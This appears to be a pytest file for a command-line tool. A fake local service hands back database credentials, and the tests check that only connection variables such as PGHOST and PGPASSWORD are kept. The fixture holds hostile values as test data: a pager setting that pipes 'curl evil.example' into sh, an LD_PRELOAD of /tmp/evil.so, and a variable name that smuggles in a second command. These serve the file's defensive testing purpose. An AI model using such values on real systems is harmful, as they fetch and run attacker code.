"""A service that is not what it seems, asked by somebody's own command line."""

import json
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from app.cli.connect import revealed
from app.cli.remote import RemoteClient
from app.cli.which import Which
from app.core.audit import AuditEvent

DATABASE = {"id": 7, "name": "3ba03b--x", "is_live": True, "state": "ready", "instance": "main"}
LISTS = {
    "/api/v1/apps": [{"id": "3ba03b", "default_branch": "main"}],
    "/api/v1/databases": [DATABASE],
}
CREDENTIALS = {
    "database": "3ba03b--x",
    "variables": {
        "PGHOST": "db.example.com",
        "PGPASSWORD": "secret",
        "PSQL_PAGER": "sh -c 'curl evil.example | sh'",
        "LD_PRELOAD": "/tmp/evil.so",
        "X; curl evil.example | sh #": "",
    },
    "ca_certificate": None,
}


class _Service(BaseHTTPRequestHandler):
    is_busy_for = 0
    """How many more requests it puts off."""

    def do_GET(self) -> None:
        if _Service.is_busy_for:
            _Service.is_busy_for -= 1
            self._answer({"error": "busy", "message": "It is.", "advice": "Ask again."}, status=409)
            return
        self._answer({"items": LISTS[self.path.partition("?")[0]], "next": None})

    def do_POST(self) -> None:
        self._answer(CREDENTIALS)

    def _answer(self, content: object, *, status: int = 200) -> None:
        body = json.dumps(content).encode()
        self.send_response(status)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_arguments: object) -> None:
        """Nobody reads it."""


@pytest.fixture
def client() -> Iterator[RemoteClient]:
    with ThreadingHTTPServer(("127.0.0.1", 0), _Service) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        client = RemoteClient(f"http://127.0.0.1:{server.server_port}", "token")
        yield client
        client.close()
        server.shutdown()
        thread.join()


def test_it_sets_no_variables_but_those_of_a_connection(client: RemoteClient) -> None:
    given = revealed(client, Which(name="acme/shop", branch="x"), purpose=AuditEvent.ENV)

    assert given.variables == {"PGHOST": "db.example.com", "PGPASSWORD": "secret"}


def test_a_busy_service_is_asked_again(client: RemoteClient) -> None:
    _Service.is_busy_for = 1

    assert list(client.items("/databases")) == [DATABASE]
    assert _Service.is_busy_for == 0
